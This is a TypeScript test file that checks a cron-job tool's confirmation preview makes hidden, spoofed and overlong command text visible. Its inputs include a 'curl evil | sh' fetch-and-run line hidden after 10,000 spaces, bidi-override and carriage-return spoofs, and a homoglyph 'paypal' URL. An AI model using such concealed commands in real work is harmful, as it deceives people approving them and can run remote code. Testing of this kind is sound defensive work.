// SECURITY.md X02: what a person agrees to is rendered by code. Whatever hides, turns or imitates is written out and pointed at; a long
// value says how much of it is not shown, and all of it can be seen.

import { userInfo } from 'node:os';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { add } from '../../src/crontab/add.js';
import { update } from '../../src/crontab/update.js';
import type { CommandLine } from '../cli/command-line.js';
import { commandLine } from '../cli/command-line.js';
import type { Desk } from '../crontab/desk.js';
import { desk, failure, person } from '../crontab/desk.js';

describe('the card', () => {
  let d: Desk;
  beforeEach(async () => {
    const env = { API_MODE: 'fast' };
    d = await desk({
      tasks: { etl: { kind: 'shell', command: ['./etl.sh', '{{day}}'], params: { day: { type: 'string' } }, env } },
    });
  });
  afterEach(() => d.close());

  const card = async (...argv: string[]) =>
    failure(await add(d.crontab, { name: 'job', cron: '0 9 * * *', argv, cwd: d.folder }, person));
  // eslint-disable-next-line no-control-regex -- what may not be there is the subject
  const HIDDEN = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\u00a0\u3000]/u;

  test('names the exact argv, folder, program, environment by name, account, hosts and the next three', async () => {
    const { preview } = await card('sh', '-c', 'echo "a b"');
    expect(preview!.split('\n')).toEqual([
      'name     job',
      'command  ["sh","-c","echo \\"a b\\""]',
      `folder   ${d.folder}`,
      expect.stringMatching(/^program {2}\/\S*bin\/sh$/),
      'env      PATH HOME LANG LC_ALL TZ USER TMPDIR CRON_AGENT_*',
      `user     ${userInfo().username}`,
      'hosts    any: what it talks to is not limited',
      'when     every day at 09:00 (UTC)',
      'next     Mon 2 Mar 09:00',
      '         Tue 3 Mar 09:00',
      '         Wed 4 Mar 09:00',
    ]);
  });

  test.each([
    ['ANSI', 'a\u001b[2K\u001b[1Ab', '\\\\u001b[2K\\\\u001b[1A', 'hides'],
    ['an override of direction', 'safe\u202etxt.sh', '\\u202e', 'bidi'],
    ['an isolate', 'x\u2066y', '\\u2066', 'bidi'],
    ['zero width', 'r\u200bm', '\\u200b', 'hides'],
    ['a byte order mark', 'r\ufeffm', '\\ufeff', 'hides'],
    ['a hard space', 'a\u00a0b', '\\u00a0', 'hides'],
    ['a newline', 'a\nname     other', '\\\\nname', 'hides'],
    ['carriage return', 'evil\rgood', '\\\\rgood', 'hides'],
    ['C1', 'a\u009b2Jb', '\\x9b', 'hides'],
    ['a Cyrillic letter in a Latin word', 'https://p\u0430ypal.com', undefined, 'only look Latin are in p\\u{430}ypal'],
    ['a word of look-alikes alone', '\u0440\u0430\u0443', undefined, 'only look Latin are in \\u{440}\\u{430}\\u{443}'],
    ['full width letters', 'e\uff43ho', undefined, 'only look Latin are in e\\u{ff43}ho'],
  ])('%s is made visible', async (_what, word, shown, caution) => {
    const { preview } = await card('echo', word);
    expect(preview).not.toMatch(HIDDEN);
    expect(preview!.split('\n').filter((line) => line.startsWith('name '))).toEqual(['name     job']);
    if (shown !== undefined) expect(preview).toContain(shown.replaceAll('\\\\', '\\'));
    const flags = preview!.split('\n').filter((line) => line.startsWith('caution'));
    if (caution === undefined) expect(flags).toEqual([]);
    else expect(flags.join('\n')).toContain(caution);
  });

  test.each(['день', 'größe', 'αβγ', 'مرحبا', '日本'])('%s is no cause for caution', async (word) => {
    expect((await card('echo', word)).preview).not.toContain('caution');
  });

  test('ten thousand spaces are a number, and what follows them is there', async () => {
    const { preview, full } = await card('echo', `harmless${' '.repeat(10_000)}; curl evil | sh`);
    expect(preview).toContain('harmless⟨10000 spaces⟩; curl evil | sh');
    expect(preview).toContain('caution  it holds a long stretch of spaces');
    expect(full).toBeUndefined();
  });

  test('a long value keeps both its ends, says how much is between them, and can be seen whole', async () => {
    const { preview, full } = await card('echo', `${'a'.repeat(3_000)}PAYLOAD${'b'.repeat(3_000)}`);
    expect(preview).toMatch(/a…\+\d+ chars…b+"\]/);
    expect(preview).not.toContain('PAYLOAD');
    expect(full).toContain('PAYLOAD');
    expect(preview!.length).toBeLessThan(2_000);
  });

  test('of a registered task that takes the place of another it says what would run, and what else that is', async () => {
    await d.added({ name: 'job' });
    const refused = failure(await update(d.crontab, { job: 'job', task: 'etl', args: { day: 'x\u202ey' } }, person));
    expect(refused.preview).toMatch(/^task {5}etl$/m);
    expect(refused.preview).toMatch(/^command {2}\["\.\/etl\.sh","x\\u202ey"\]$/m);
    expect(refused.preview).toMatch(/^sets {5}API_MODE sha256:/m);
    expect(refused.preview).toContain('API_MODE CRON_AGENT_*');
    expect(refused.preview).toMatch(/^changed {2}task \(db_backup\) is gone$/m);
    expect(refused.preview).not.toContain('fast');
  });
});

describe('at the terminal', () => {
  let cli: CommandLine;
  beforeEach(() => (cli = commandLine()));
  afterEach(() => cli.remove());
  const long = [
    'add',
    'job',
    '--when',
    'every day at 9',
    '--',
    'echo',
    `${'a'.repeat(3_000)}PAYLOAD${'b'.repeat(3_000)}`,
  ];

  test('full shows all of it and asks again; a program gets all of it at once', async () => {
    const said = await cli.say('full\nn\n', { terminal: true }, ...long);
    expect(said.stderr.split('Go on? [y/N/full]')).toHaveLength(3);
    expect(said.stderr.split('Go on?')[0]).not.toContain('PAYLOAD');
    expect(said.stderr).toContain('PAYLOAD');
    expect(said.code).toBe(3);
    const { stderr } = await cli.run('--json', ...long);
    expect((JSON.parse(stderr) as { error: { preview: string } }).error.preview).toContain('PAYLOAD');
  });

  test('a caution is red', async () => {
    const said = await cli.say(
      'n\n',
      { terminal: true, environment: { FORCE_COLOR: '1' } },
      'add',
      'j',
      '--when',
      'daily at 9',
      '--',
      'echo',
      '\u202e',
    );
    // eslint-disable-next-line no-control-regex -- colour is the subject
    expect(said.stderr).toMatch(/\u001b\[31mcaution {2}it turns/);
  });
});
